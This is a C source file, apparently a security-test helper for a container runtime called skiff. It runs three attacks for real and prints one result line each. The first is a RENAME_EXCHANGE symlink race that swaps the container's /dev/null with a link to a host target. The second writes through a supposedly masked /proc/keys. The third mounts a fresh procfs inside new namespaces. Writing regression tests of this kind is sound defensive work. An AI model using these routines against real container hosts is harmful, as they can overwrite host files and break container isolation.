/* The attacker of test/security/: a static program, built by the tests, that
 * runs the attacks of issue 10 for real and prints what it got, one line.
 *
 *   attacker swap DIR TARGET   (host) swap DIR/null with a link to TARGET,
 *                              atomically (RENAME_EXCHANGE), until killed
 *   attacker keys              (container) is /proc/keys masked by the null
 *                              device? write through it, report the hostname
 *   attacker procmount         (container) new user, mount and pid
 *                              namespaces, then mount a new procfs on /proc
 *
 * It only reports; the tests decide. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define MARK "skiff-pwned"

static int swap(const char *dir, const char *target)
{
	int d = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (d < 0) {
		perror("open dir");
		return 1;
	}
	for (;;) {
		/* skiff removes and makes /dev/null at every start: keep a link
		 * beside it, and trade places with whatever null is now. */
		struct stat st;
		if (fstatat(d, ".evil", &st, AT_SYMLINK_NOFOLLOW) < 0 || !S_ISLNK(st.st_mode)) {
			unlinkat(d, ".evil", 0);
			symlinkat(target, d, ".evil");
		}
		renameat2(d, "null", d, ".evil", RENAME_EXCHANGE);
	}
}

static int keys(void)
{
	struct stat st;
	char kind[64] = "missing", wrote[64] = "no", host[256] = "?";
	if (stat("/proc/keys", &st) == 0) {
		if (S_ISCHR(st.st_mode))
			snprintf(kind, sizeof kind, "chr:%u:%u", major(st.st_rdev), minor(st.st_rdev));
		else
			snprintf(kind, sizeof kind, "%s", S_ISREG(st.st_mode) ? "file" : "other");
	}
	int fd = open("/proc/keys", O_WRONLY);
	if (fd < 0)
		snprintf(wrote, sizeof wrote, "open:%s", strerrorname_np(errno));
	else if (write(fd, MARK "\n", sizeof MARK) < 0)
		snprintf(wrote, sizeof wrote, "write:%s", strerrorname_np(errno));
	else
		snprintf(wrote, sizeof wrote, "ok");
	if (fd >= 0)
		close(fd);
	int h = open("/proc/sys/kernel/hostname", O_RDONLY);
	ssize_t n = h < 0 ? -1 : read(h, host, sizeof host - 1);
	if (n >= 0) {
		host[n] = 0;
		host[strcspn(host, "\n")] = 0;
	}
	printf("keys=%s write=%s hostname=%s\n", kind, wrote, host);
	return 0;
}

static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd < 0)
		return -1;
	ssize_t n = write(fd, text, strlen(text));
	close(fd);
	return n < 0 ? -1 : 0;
}

static int procmount(void)
{
	/* As `unshare -mrpf mount -t proc none /proc`: root in a new user
	 * namespace (mapping root needs CAP_SETFCAP when unsharing). */
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0) {
		printf("procmount=unshare:%s\n", strerrorname_np(errno));
		return 0;
	}
	if (put("/proc/self/setgroups", "deny") < 0 || put("/proc/self/uid_map", "0 0 1") < 0 ||
	    put("/proc/self/gid_map", "0 0 1") < 0) {
		printf("procmount=idmap:%s\n", strerrorname_np(errno));
		return 0;
	}
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0) {
		printf("procmount=fork:%s\n", strerrorname_np(errno));
		return 0;
	}
	if (pid == 0) {
		/* pid 1 of the new pid namespace: the new procfs would be its */
		if (mount("none", "/proc", "proc", 0, NULL) < 0)
			printf("procmount=%s\n", strerrorname_np(errno));
		else
			printf("procmount=mounted\n");
		fflush(stdout);
		_exit(0);
	}
	int status;
	waitpid(pid, &status, 0);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc == 2 && strcmp(argv[1], "keys") == 0)
		return keys();
	if (argc == 2 && strcmp(argv[1], "procmount") == 0)
		return procmount();
	fprintf(stderr, "usage: attacker swap DIR TARGET | keys | procmount\n");
	return 2;
}
